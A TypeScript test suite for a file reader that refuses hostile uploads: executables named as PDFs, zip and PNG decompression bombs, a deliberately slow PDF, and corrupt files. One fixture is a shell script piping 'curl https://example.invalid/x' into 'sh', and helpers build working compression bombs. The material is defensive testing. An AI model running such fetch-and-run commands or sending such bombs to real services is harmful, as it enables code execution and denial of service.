import { readFile as readFromDisk } from "node:fs/promises";
import { crc32, deflateSync } from "node:zlib";
import { afterAll, describe, expect, it } from "vitest";
import { closeParseWorkers } from "../../src/files/parse-off-thread.ts";
import { type FileReading, readFile } from "../../src/files/read-file.ts";
import { writeDocx } from "../fixtures/files/docx-writer.ts";
import { writePdf } from "../fixtures/files/pdf-writer.ts";
import { writeWav } from "../fixtures/files/wav-writer.ts";
import { writeZip } from "../fixtures/files/zip-writer.ts";

afterAll(closeParseWorkers);

function reasonOf(reading: FileReading): string {
  if (reading.kind !== "refused")
    throw new Error(`expected a refusal, got ${JSON.stringify(reading).slice(0, 300)}`);
  expect(reading.reason).not.toMatch(/\n|\bat .+:\d+:\d+/); // one sentence, no stack
  return reading.reason;
}

/** A PNG of the given size whose pixel data is `rows` zero-filled rows, 1-bit grey (a real bomb compresses ~1000:1). */
function png(width: number, height: number, rows: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const framed = Buffer.alloc(8 + data.length + 4);
    framed.writeUInt32BE(data.length, 0);
    body.copy(framed, 4);
    framed.writeUInt32BE(crc32(body), 8 + data.length);
    return framed;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const raw = Buffer.alloc(rows * (1 + Math.ceil(width / 8)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(raw, { level: 9 })),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A page whose content stream is millions of no-op operators: a 5 KB file that takes seconds to read. */
/**
 * A ~70 KB PDF whose one page is 64 MB of save/restore operators: several seconds of parsing even in a
 * warm worker on a quiet machine (4 MB of them parse in ~0.4 s there), so a 1 s limit always stops it.
 */
function slowPdf(): Buffer {
  return writePdf([
    { lines: [], deflated: deflateSync(Buffer.alloc(64 * 1024 * 1024, "q Q\n"), { level: 9 }) },
  ]);
}

describe("hostile and broken files are refused with a sentence", () => {
  it("refuses a file over the size cap from its length alone", async () => {
    const reason = reasonOf(await readFile(Buffer.alloc(2048), { name: "huge.pdf" }, { maxFileBytes: 1024 }));
    expect(reason).toMatch(/^"huge\.pdf" is .* over the .* I can read/);
  });

  it("refuses a program whatever its name says", async () => {
    const pe = Buffer.alloc(512);
    pe.write("MZ", 0, "latin1");
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write("PE\0\0", 0x80, "latin1");
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
    expect(reasonOf(await readFile(pe, { name: "invoice.pdf", declaredMime: "application/pdf" }))).toBe(
      '"invoice.pdf" is a program (a Windows executable), not a document, so I won\'t open it; attach the document itself.',
    );
    expect(reasonOf(await readFile(elf, { name: "report.pdf" }))).toContain("a Linux executable");
    const script = Buffer.from("#!/bin/sh\ncurl https://example.invalid/x | sh\n");
    expect(reasonOf(await readFile(script, { name: "scan.pdf" }))).toContain("(a script)");
    // The same script named as code is text to read, never run.
    expect((await readFile(script, { name: "install.sh" })).kind).toBe("text");
  });

  it("refuses a DOCX whose zip directory declares far more than its size, before parsing it", async () => {
    const declared = writeDocx(
      [{ text: "hello" }],
      [{ name: "word/media/bomb.bin", data: "x", declaredSize: 4_000_000_000 }],
    );
    expect(reasonOf(await readFile(declared, { name: "bomb.docx" }))).toMatch(
      /^"bomb\.docx" unpacks to .* GB, far more than a Word document of its size should/,
    );
    // A real bomb: 20 MB of zeros compressed ~1000:1 in one entry.
    const ratio = writeDocx(
      [{ text: "hello" }],
      [{ name: "word/media/zeros.bin", data: Buffer.alloc(20 * 1024 * 1024) }],
    );
    expect(ratio.length).toBeLessThan(100 * 1024);
    expect(reasonOf(await readFile(ratio, { name: "ratio.docx" }))).toContain("unpacks to");
    // Within the total but over a lower cap given by the caller.
    const fine = writeDocx([{ text: "hello" }]);
    expect(reasonOf(await readFile(fine, { name: "small.docx" }, { maxUnzippedBytes: 100 }))).toContain(
      "unpacks to",
    );
  });

  it("refuses a 30,000 × 30,000 PNG from its header, and a real decompression bomb", async () => {
    const header = png(30_000, 30_000, 1);
    expect(reasonOf(await readFile(header, { name: "poster.png" }))).toBe(
      '"poster.png" is 30000 × 30000 pixels, more than I can open; resize or crop it and attach it again.',
    );
    const bomb = png(12_000, 12_000, 12_000);
    expect(bomb.length).toBeLessThan(64 * 1024);
    expect(reasonOf(await readFile(bomb, { name: "bomb.png" }))).toContain("12000 × 12000 pixels");
  });

  it("stops a PDF that takes too long, while the event loop keeps running", async () => {
    const endless = slowPdf();
    let ticks = 0;
    let longestGap = 0;
    let last = performance.now();
    const timer = setInterval(() => {
      const now = performance.now();
      longestGap = Math.max(longestGap, now - last);
      last = now;
      ticks += 1;
    }, 5);
    try {
      const started = performance.now();
      const reading = await readFile(endless, { name: "endless.pdf" }, { parseTimeoutMs: 1000 });
      expect(reasonOf(reading)).toBe(
        '"endless.pdf" took more than 1 s to read, so I stopped; attach a smaller file or export just the pages you need.',
      );
      expect(performance.now() - started).toBeGreaterThanOrEqual(1000);
    } finally {
      clearInterval(timer);
    }
    // A parse on the main thread would hold the timer for the whole second it ran.
    expect(ticks).toBeGreaterThan(10);
    expect(longestGap).toBeLessThan(1000);
    // The stopped worker is gone; the next document gets a fresh one.
    const next = await readFile(writePdf([{ lines: [{ text: "still reading" }] }]), { name: "next.pdf" });
    expect(next).toMatchObject({ kind: "text", text: "still reading" });
  });

  it("stops a parse that needs more memory than the worker may have", async () => {
    const xlsx = await readFromDisk(new URL("../fixtures/files/sample.xlsx", import.meta.url));
    expect(reasonOf(await readFile(xlsx, { name: "big.xlsx" }, { parseMemoryMb: 8 }))).toBe(
      '"big.xlsx" needs more memory to read than I allow; attach a smaller file or export just the part you need.',
    );
  });

  it("says a password-protected workbook is protected", async () => {
    const cfb = Buffer.alloc(4096);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(cfb);
    expect(reasonOf(await readFile(cfb, { name: "salaries.xlsx" }))).toBe(
      '"salaries.xlsx" is password-protected; remove the password and attach it again.',
    );
  });

  it("refuses a WAV whose header says it lasts three hours", async () => {
    const reading = await readFile(writeWav(0.1, { declaredSeconds: 3 * 3600 }), { name: "meeting.wav" });
    expect(reasonOf(reading)).toBe(
      '"meeting.wav" is 3 h long, over the 10 minutes I can transcribe; trim it and attach it again.',
    );
  });

  it("gives a sentence for truncated or corrupt files of every type", async () => {
    const pdf = writePdf([{ lines: [{ text: "hello" }] }]);
    const docx = writeDocx([{ text: "hello" }]);
    const fixture = (name: string) => readFromDisk(new URL(`../fixtures/files/${name}`, import.meta.url));
    const xlsx = await fixture("sample.xlsx");
    const cases: [string, Uint8Array][] = [
      ["cut.pdf", pdf.subarray(0, 40)],
      ["cut.docx", docx.subarray(0, docx.length - 30)],
      ["cut.xlsx", xlsx.subarray(0, xlsx.length / 2)],
      ["cut.png", (await fixture("sample.png")).subarray(0, 500)],
      ["cut.jpg", (await fixture("sample.jpg")).subarray(0, 500)],
      ["cut.gif", (await fixture("sample.gif")).subarray(0, 300)],
      ["noise.bin", Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256))],
      ["empty.txt", Buffer.alloc(0)],
      ["nul.txt", Buffer.from("text\u0000with a NUL")],
    ];
    for (const [name, bytes] of cases) {
      expect(reasonOf(await readFile(bytes, { name })), name).toContain(`"${name}"`);
    }
  });

  it("names an unsupported type it recognised", async () => {
    const zip = writeZip([{ name: "notes.txt", data: "hello" }]);
    expect(reasonOf(await readFile(zip, { name: "archive.zip" }))).toBe(
      '"archive.zip" is a ZIP file, which I can\'t read; attach a PDF, Word (DOCX), Excel (XLSX), CSV, text, image or audio file instead.',
    );
  });
});
